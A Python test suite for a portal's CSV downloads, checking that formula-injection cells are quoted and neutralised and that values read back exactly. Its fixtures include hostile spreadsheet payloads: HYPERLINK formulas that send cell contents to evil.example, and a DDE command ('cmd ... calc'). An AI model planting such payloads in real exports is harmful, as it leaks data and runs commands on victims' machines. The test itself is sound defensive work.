"""CSV downloads and exports: no cell a spreadsheet would run as a formula, numbers stay
numbers, and what is read back is what was written."""

import csv
import io
import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal import csv_cells, reports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"点击查看详情")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "  =1+1",  # leading spaces, which some spreadsheets trim on import
    "\u3000=1+1",  # an ideographic space
    "\n-1",
    "\0=1",
    "＝1+1",  # full-width, as a Chinese input method types it
    "＠SUM(A1)",
    "'=1+1",  # already quoted by the applicant: still inert, still reversible
]
HARMLESS = ["张三", "1-2", "a=b", "foo@example.com", "13800001234", "'quoted", "", "19.00 %"]


def runs_as_formula(cell: str) -> bool:
    """What spreadsheets do with the first character of a text cell (OWASP's list, looked at
    through leading whitespace and full-width forms)."""
    if cell.startswith(("\t", "\r", "\0")):
        return True
    first = cell.lstrip().lstrip("\0")[:1]
    return first in "=+-@＝＋－＠" and first != ""


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_that_could_run_starts_with_a_quote_and_reads_back(text):
    cell = csv_cells.spreadsheet_cell(text)
    assert cell.startswith("'") and not runs_as_formula(cell)
    assert csv_cells.restore_cell(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_written_as_it_is(text):
    assert csv_cells.spreadsheet_cell(text) == text
    assert csv_cells.restore_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-3, "-3"),
        (0, "0"),
        (12, "12"),
        (Decimal("-1.50"), "-1.50"),
        (Decimal("1E+3"), "1000"),
        (None, ""),
        (True, "True"),
    ],
)
def test_numbers_are_written_as_numbers_even_when_negative(value, cell):
    assert csv_cells.spreadsheet_cell(value) == cell


def test_a_negative_number_given_as_text_is_text_and_quoted():
    # Decided by type: text that looks like a number is still text from outside.
    assert csv_cells.spreadsheet_cell("-3") == "'-3"


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n \0＝a1"), max_size=12) | st.text())
def test_every_text_is_inert_and_reads_back_exactly(text):
    cell = csv_cells.spreadsheet_cell(text)
    assert not runs_as_formula(cell)
    assert csv_cells.restore_cell(cell) == text


def test_a_long_run_of_quotes_is_handled_without_recursion():
    text = "'" * 5000 + "=1"
    assert csv_cells.restore_cell(csv_cells.spreadsheet_cell(text)) == text


# --- The annual report downloads: organisation names and values come from content files ---------

ORGANISATION = '=HYPERLINK("http://evil.example/?"&A1,"灵武市科学技术局")'


def hostile_report(site):
    """Give the 2024 report a formula for a name, a negative count and a formula for a value."""
    data = site / "reports" / "lingwu-kjj-2024.report.yml"
    text = data.read_text(encoding="utf-8")
    text = text.replace(
        "organisation: 灵武市科学技术局",
        "organisation: '" + ORGANISATION.replace("'", "''") + "'",
        1,
    )
    text = text.replace(
        "new:                      {person: 0, business: 0",
        "new:                      {person: -3, business: '@SUM(A1)'",
        1,
    )
    data.write_text(text, encoding="utf-8")


NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("url", ["/documents/lingwu-kjj-2024/tables.csv", "/reports/dataset.csv"])
def test_report_csv_downloads_neutralise_formulas_from_content_files(site, client, url):
    hostile_report(site)
    text = client.get(url).get_data(as_text=True)
    rows = [row for row in csv_rows(text) if row["year"] == "2024"]
    assert rows, text[:500]
    for row in rows:
        # Only a number may start with "-": a spreadsheet reads it as that number.
        assert not any(
            runs_as_formula(cell) and not NUMBER.fullmatch(cell) for cell in row.values()
        ), row
        assert row["organisation"] == "'" + ORGANISATION
    cells = {(row["table"], row["row"], row["column"]): row["value"] for row in rows}
    assert cells[("3", "new", "person")] == "-3"  # a number, negative or not, stays a number
    assert cells[("3", "new", "business")] == "'@SUM(A1)"
    assert cells[("3", "new", "research")] == "0"
    [again] = [report for report in reports.dataset_from_csv(text) if report.year == 2024]
    assert again.organisation == ORGANISATION
    assert again.value(3, "new", "person") == -3
    assert again.value(3, "new", "business") == "@SUM(A1)"
